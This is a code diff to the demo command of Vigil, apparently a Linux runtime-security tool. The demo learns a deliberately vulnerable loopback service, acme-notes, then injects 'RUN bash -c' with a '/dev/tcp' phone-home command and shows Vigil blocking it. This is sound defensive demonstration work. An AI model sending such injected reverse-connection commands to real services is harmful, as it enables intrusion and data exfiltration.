@@ -8,9 +8,9 @@ struct Demo: ParsableCommand {
     static let configuration = CommandConfiguration(
         abstract: "See Vigil learn a service, then catch and stop an attack on it (needs root).",
         discussion: """
-        1. Starts a small built-in TCP service (`vigil demo-service`, with a command-injection \
-        flaw) on a loopback port, and learns it with `vigil learn` while clients make normal \
-        requests.
+        1. Starts a small TCP service, `acme-notes` (built with Vigil, a C program with a \
+        command-injection flaw), on a loopback port, and learns it with `vigil learn` while \
+        clients make normal requests.
         2. Switches to `vigil enforce` with the learned baseline. Normal requests go on, \
         and produce no finding.
         3. Attacks: a request makes the service spawn a shell that phones home \
@@ -43,30 +43,30 @@ struct Demo: ParsableCommand {
         try? FileManager.default.removeItem(atPath: models)
         try? FileManager.default.removeItem(atPath: findings)
         try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true, attributes: [.posixPermissions: 0o700])
-        let self_ = URL(fileURLWithPath: "/proc/self/exe").resolvingSymlinksInPath().path
+        let service = DemoWorkload.program
 
         say("""
         \u{1B}[1mVigil demo\u{1B}[0m
-        A small TCP service runs on 127.0.0.1. Vigil first learns how it behaves, then
+        A small TCP service, \((service.path as NSString).lastPathComponent), runs on 127.0.0.1. Vigil first learns how it behaves, then
         enforces that baseline while the service is attacked.
 
         \u{1B}[1m1. Learning\u{1B}[0m (\(learnSeconds) s): the service answers normal requests (`GET hostname`).
         """)
         let learnThread = CommandThread(["learn", "--models", models, "--duration", String(learnSeconds),
-                                         "--only", self_, "--only", "/bin/bash", "--only", "/usr/bin/bash", "--only", "/usr/bin/head",
+                                         "--only", service.path, "--only", "/bin/bash", "--only", "/usr/bin/bash", "--only", "/usr/bin/head",
                                          "--bucket", "2", "--window", "2", "--min-observed", "4", "--save-interval", "4"])
         Thread.sleep(forTimeInterval: 1.5)
-        let service = try DemoWorkload.start(vulnerable: true)
-        defer { service.stop() }
+        let workload = try DemoWorkload.start(vulnerable: true)
+        defer { workload.stop() }
         let learnEnd = Date().addingTimeInterval(Double(learnSeconds) - 3)
         var requests = 0
         while Date() < learnEnd {
-            try service.request("GET hostname")
+            try workload.request("GET hostname")
             requests += 1
             Thread.sleep(forTimeInterval: 0.1)
         }
         learnThread.wait()
-        let id = ProfileIdentity.resolve(path: self_, argv: [self_, "demo-service"]).id
+        let id = ProfileIdentity.resolve(path: service.path, argv: [service.path] + service.arguments).id
         let store = ProfileStore(directory: models)
         if let p = try? store.load(file: store.path(for: id)) {
             let r = p.stability()
@@ -87,25 +87,25 @@ struct Demo: ParsableCommand {
         let policy = (models as NSString).deletingLastPathComponent + "/demo-policy.yaml"
         try "enforce-learning: [\(id)]\n".write(toFile: policy, atomically: false, encoding: .utf8)
         let enforceThread = CommandThread(["enforce", "--models", models, "--duration", "12", "--explain",
-                                           "--workload", "exe:" + self_, "--policy", policy, "--output", "file:" + findings])
+                                           "--workload", "exe:" + service.path, "--policy", policy, "--output", "file:" + findings])
         Thread.sleep(forTimeInterval: 2)
-        for _ in 0..<3 { try service.request("GET hostname") }
+        for _ in 0..<3 { try workload.request("GET hostname") }
         Thread.sleep(forTimeInterval: 1.5)
-        let normalFindings = Self.findings(in: findings, pid: service.service.processIdentifier)
+        let normalFindings = Self.findings(in: findings, pid: workload.service.processIdentifier)
         say("   3 normal requests served: \(normalFindings == 0 ? "no finding" : "\(normalFindings) finding(s)") for the service.")
         say("""
 
         \u{1B}[1m3. Attack\u{1B}[0m: a request makes the service run
            bash -c 'echo x >/dev/tcp/127.0.0.1/\(phoneHome.port)'   (a shell phoning home)
         """)
-        try service.request("RUN bash -c 'echo x >/dev/tcp/127.0.0.1/\(phoneHome.port)'")
+        try workload.request("RUN bash -c 'echo x >/dev/tcp/127.0.0.1/\(phoneHome.port)'")
         enforceThread.wait()
         Thread.sleep(forTimeInterval: 0.2)
         let arrived = phoneHome.connections
         say("""
 
         \u{1B}[1mResult\u{1B}[0m: the attacker's listener received \(arrived) connection(s)\(arrived == 0 ? ": the shell never ran." : ".")
-           The service is \(service.service.isRunning ? "still running" : "gone (killed by Vigil)").
+           The service is \(workload.service.isRunning ? "still running" : "gone (killed by Vigil)").
            Findings as OCSF Detection Finding (class_uid 2004) JSON lines: \(findings)
            Baseline: \(models)/\(id).json   (vigil profile show \(id) --models \(models))
         """)
@@ -178,7 +178,7 @@ final class LoopbackCounter: @unchecked Sendable {
     }
 }
 
-/// The demo's workload: `vigil demo-service` on a loopback port, and clients that talk to
+/// The demo's workload: `acme-notes` on a loopback port, and clients that talk to
 /// it through bash's /dev/tcp (separate processes, so the sensor sees them; Vigil never
 /// reports its own process).
 final class DemoWorkload {
@@ -190,10 +190,18 @@ final class DemoWorkload {
         self.port = port
     }
 
+    /// The service program: `acme-notes`, built beside `vigil`; `vigil demo-service` when it
+    /// is missing (a vigil installed without it).
+    static let program: (path: String, arguments: [String]) = {
+        let vigil = URL(fileURLWithPath: "/proc/self/exe").resolvingSymlinksInPath()
+        let acme = vigil.deletingLastPathComponent().appendingPathComponent("acme-notes").path
+        return FileManager.default.isExecutableFile(atPath: acme) ? (acme, []) : (vigil.path, ["demo-service"])
+    }()
+
     static func start(vulnerable: Bool = false) throws -> DemoWorkload {
         let p = Process()
-        p.executableURL = URL(fileURLWithPath: "/proc/self/exe").resolvingSymlinksInPath()
-        p.arguments = ["demo-service"] + (vulnerable ? ["--vulnerable"] : [])
+        p.executableURL = URL(fileURLWithPath: program.path)
+        p.arguments = program.arguments + (vulnerable ? ["--vulnerable"] : [])
         let out = Pipe()
         p.standardOutput = out
         try p.run()
